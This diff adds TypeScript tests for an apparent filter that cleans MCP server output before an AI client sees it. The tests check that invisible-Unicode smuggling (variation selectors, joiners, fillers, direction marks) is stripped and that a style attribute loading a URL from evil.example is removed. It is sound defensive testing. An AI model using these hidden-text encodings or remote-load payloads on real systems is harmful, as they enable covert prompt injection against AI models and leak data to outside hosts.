@@ -1,3 +1,5 @@
+import { readdirSync, readFileSync } from "node:fs";
+import { join } from "node:path";
 import { describe, expect, it } from "vitest";
 import type { JsonObject } from "../traffic.ts";
 import { at, shown, world } from "./fixtures/judge-world.ts";
@@ -162,6 +164,57 @@ describe("what a server says", () => {
     const { judge } = world();
     const before = result("a\u{e0041}\u{e0042}\u200bb");
     expect(shown(await judge.response(method, { name: "get_item" }, before, at("hostile")), before)).not.toMatch(/[\u{e0000}-\u{e007f}\u200b]/u);
+  });
+
+  it.each([
+    ["selectors of forms", "\u{1f600}\ufe00\ufe03\ufe07\ufe0a\ufe01", "\u{1f600}"],
+    ["joiners", "a\u200d\u200c\u200d\u200d\u200cb", "ab"],
+    ["fillers", "a\u3164\u115f\u1160\uffa0b", "ab"],
+    ["deprecated format characters", "a\u206a\u206bb", "ab"],
+    ["annotations", "a\ufff9b\ufffa\ufffbc", "abc"],
+    ["marks of direction", "a\u200e\u200f\u200e\u200e\u200fb", "ab"],
+  ])("shows nothing that is spelt by %s", async (_what, text, seen) => {
+    const { judge } = world();
+    const before = { contents: [{ uri: "notes://a", text }] };
+    const after = JSON.parse(shown(await judge.response("resources/read", { uri: "notes://a" }, before, at("hostile")), before)) as typeof before;
+    expect(after.contents[0]!.text.endsWith(seen)).toBe(true);
+  });
+
+  it.each([
+    "\u2764\ufe0f\u200d\u{1f525} \u{1f468}\u200d\u{1f469}\u200d\u{1f466}",
+    "\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
+    "\u0646\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \u200f(a)\u200e",
+    "1\ufe0f\u20e3",
+  ])("leaves what scripts and emoji are made of: %j", async (text) => {
+    const { judge } = world();
+    expect(await judge.response("resources/read", { uri: "notes://a" }, { contents: [{ uri: "notes://a", text }] }, at("hostile"))).toEqual(PASS);
+  });
+
+  it("loads nothing by a style, whatever letters stand before it", async () => {
+    const { judge } = world();
+    for (const before of ["", "\u0130".repeat(40), "\u1e9e\u212a\ufb03"]) {
+      const result = { content: [{ type: "text", text: `${before} <p style="background:URL(https://evil.example/?q=1)">` }] };
+      expect(shown(await judge.response("tools/call", { name: "get_item" }, result, at("hostile")), result)).not.toContain("evil.example");
+    }
+  });
+
+  it("is known again only for the place that it was read from", async () => {
+    const github = at("github", { session: "s1" });
+    const empty = { content: [{ type: "text", text: "[]" }] };
+    const bytes = Buffer.from(JSON.stringify(empty));
+    for (const [tool, input] of [
+      ["search_issues", (repo: string) => ({ q: `repo:${repo} is:open` })],
+      ["issue_read", (repo: string) => ({ owner: repo.split("/")[0]!, repo: repo.split("/")[1]!, issue_number: 1, method: "get" })],
+    ] as const) {
+      const { judge, stateFolder } = world();
+      for (const repo of ["acme/one", "acme/two"]) await judge.response("tools/call", { name: tool, arguments: input(repo) }, empty, github, bytes);
+      const folder = join(stateFolder, "mcp/flows");
+      const read = readdirSync(folder)
+        .map((name) => readFileSync(join(folder, name), "utf8"))
+        .join("");
+      expect(read).toContain("forge acme/one");
+      expect(read).toContain("forge acme/two");
+    }
   });
 
   it("labels the session also where an order is the name of a member", async () => {
